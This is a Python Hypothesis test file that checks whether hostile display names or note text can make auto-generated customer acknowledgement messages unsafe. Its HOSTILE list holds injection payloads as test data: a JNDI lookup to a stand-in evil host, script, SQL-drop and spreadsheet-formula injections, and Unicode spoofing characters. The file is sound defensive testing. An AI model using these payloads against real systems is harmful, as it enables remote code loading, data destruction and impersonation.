"""Whatever strangers call themselves: we greet a name or nobody, and call nobody else."""

import re
import unicodedata

from hypothesis import example, given
from hypothesis import strategies as st

from monitor.domain.display_name import usable_first_name
from monitor.domain.effect import Slots
from monitor.domain.length import fits, length
from monitor.domain.links import links_in
from monitor.domain.platform import PLATFORMS, Counting, Platform
from monitor.domain.promise import LONGEST_WORDS
from monitor.domain.template import links_of
from monitor.domain.words import asked_words, problems_of_words, render
from tests.acknowledgement_texts import TEXTS

REFUSED = ("scam", "scammer", "liar", "stupid", "you people")
HOSTILE = (
    "@rival@other.example",
    "@rival",
    "Acme is a SCAM evil.com",
    "{{7*7}}",
    "{by}{dm}{hello}",
    "${jndi:ldap://evil.example/a}",
    "<!channel>",
    "<@U012345>",
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example","Ada")',
    "+1-800-SCAM",
    "Ada\u202eevil",
    "A\u200bda",
    "\ufeffAda",
    "Аda",
    "Z\u0351\u036b\u0343\u0358algo",
    "Ada\nEvil: yes",
    "Ada\r\n\r\nEvil",
    "Ada\x00",
    "\x1b[31mAda",
    "https://evil.example",
    "evil。com",
    "evil．com",
    "＠rival",
    "u/rival",
    "Ⓐⓓⓐ",
    "Ada \U0001f469\u200d\U0001f373",
    "%s%n%x",
    "Robert'); DROP TABLE cases;--",
    "[Ada](https://evil.example)",
    "*Ada*",
    "\ud800",
    "ﬃ",
    "ẞ",
    "ŉa",
    "İstanbul",
    "ǅa",
)
WORDS = ("Ada", "Quill", "Bo", "Maria", "scam", "Pizza", "Dr", "de", "The", "of", "SCAM", "Liar")

anything = st.text(max_size=40)
hostile_parts = st.lists(
    st.sampled_from(HOSTILE + WORDS + (" ", " ", ".", "@", "🌸", "\u200d", "é", "Я")), max_size=6
)
display_names = st.one_of(
    anything,
    st.sampled_from(HOSTILE),
    hostile_parts.map("".join),
    hostile_parts.map(" ".join),
    st.from_regex(r"[A-ZÀ-Þ][a-zß-ÿ]{0,16}( [A-Z][a-z]{1,9}){0,2}", fullmatch=True),
)
#: letters of one script, in title form
A_NAME = re.compile(r"[A-ZÀ-ɏḀ-ỿ][a-zß-ɏḁ-ỿ]{1,13}|[Α-ϿΆ-Ώ][ά-Ͽἀ-῿]{1,13}|[Ѐ-Я-ӿ][а-ӿ]{1,13}")
platforms_by_name = {platform.name: platform for platform in PLATFORMS}
platforms = st.sampled_from([platform for platform in PLATFORMS if platform.has_replies])


@given(display_names)
@example("Ada Quill")
def test_a_name_is_a_name_or_none(display_name: str) -> None:
    name = usable_first_name(display_name, REFUSED)
    if name is None:
        return
    assert A_NAME.fullmatch(name)
    assert name == name[0].upper() + name[1:].lower()
    scripts = {unicodedata.name(sign).split()[0] for sign in name}
    assert len(scripts) == 1
    assert {unicodedata.category(sign) for sign in name} <= {"Lu", "Ll"}
    assert name in unicodedata.normalize("NFC", display_name)
    assert not any(word in name.lower() for word in REFUSED)


@given(display_names, st.sampled_from(sorted(TEXTS)), platforms, st.sampled_from(["", "Jo"]))
def test_no_display_name_makes_an_acknowledgement_unsafe(
    display_name: str, template: str, platform: Platform, signed_by: str
) -> None:
    slots = Slots(
        name=display_name, handle="ada.example", signed_by=signed_by, note="The till broke."
    )
    text = render(TEXTS[template], slots, platform, LONGEST_WORDS, refused_words=REFUSED)
    assert problems_of_words(text, platform=platform, refuse=REFUSED) == []
    assert re.match(r"Hello, [a-z]|Hi \w+, [a-z]", text)


@given(st.text(max_size=60), st.text(max_size=12), platforms)
def test_a_value_is_printed_as_it_is(note: str, signed_by: str, platform: Platform) -> None:
    shown = " ".join(note.split())
    slots = Slots(note=note, signed_by=signed_by)
    text = render("A {note}|{sign}", slots, platform, "")
    sign = f" – {signed_by}" if signed_by else ""
    assert text == (f"A {shown}|{sign}" if shown else f"A |{sign}")


LINKED = (
    "{hello}we are sorry. Please {dm}, or look at https://larch.example/help. A person answers "
    "{by}. {note}{sign}"
)


@given(display_names, st.text(max_size=30) | hostile_parts.map(" ".join), platforms)
@example("Ada", "/evil", platforms_by_name["x"])
def test_nothing_that_is_filled_in_becomes_a_link_or_a_part_of_one(
    display_name: str, note: str, platform: Platform
) -> None:
    own = links_of(LINKED)
    assert own == ("https://larch.example/help",)
    text = render(LINKED, Slots(name=display_name, note=note), platform, "by 11:00 today")
    if problems_of_words(text, platform=platform, refuse=REFUSED, allowed_urls=own) == []:
        assert set(links_in(text)) == set(own)


@given(st.text(max_size=400), platforms, st.sampled_from(["", "ada", "ada.bsky.social"]))
def test_what_passes_the_last_check_calls_nobody_and_fits(
    text: str, platform: Platform, handle: str
) -> None:
    if problems_of_words(text, platform=platform, refuse=REFUSED, addressee_handle=handle):
        return
    rest = text.casefold().replace(f"@{handle}", "") if handle else text
    assert "@" not in rest
    assert "://" not in text
    assert fits(text, platform)
    assert "\u202e" not in text


@given(hostile_parts.map(" ".join), platforms)
def test_hostile_words_never_pass_unseen(text: str, platform: Platform) -> None:
    kinds = {
        objection.kind for objection in problems_of_words(text, platform=platform, refuse=REFUSED)
    }
    if "@rival" in text:
        assert "address" in kinds
    if re.search(r"evil\.(com|example)", text):
        assert "link" in kinds
    if re.search("[\u202e\u200b\ufeff\x00\x1b]", text):
        assert "sign" in kinds


@given(st.text(max_size=200), st.text(max_size=200), st.sampled_from(Counting))
def test_a_longer_text_is_not_shorter(first: str, second: str, counting: Counting) -> None:
    assert length(first, counting) >= 0
    assert length(f"{first}\n{second}", counting) >= length(f"{first}\n", counting)


@given(st.text(max_size=200))
def test_everything_asked_about_stands_in_the_text(text: str) -> None:
    for word in asked_words(text, ("just", "it's fine")):
        assert word in text or word in ("just", "it's fine") or word == "!!!"
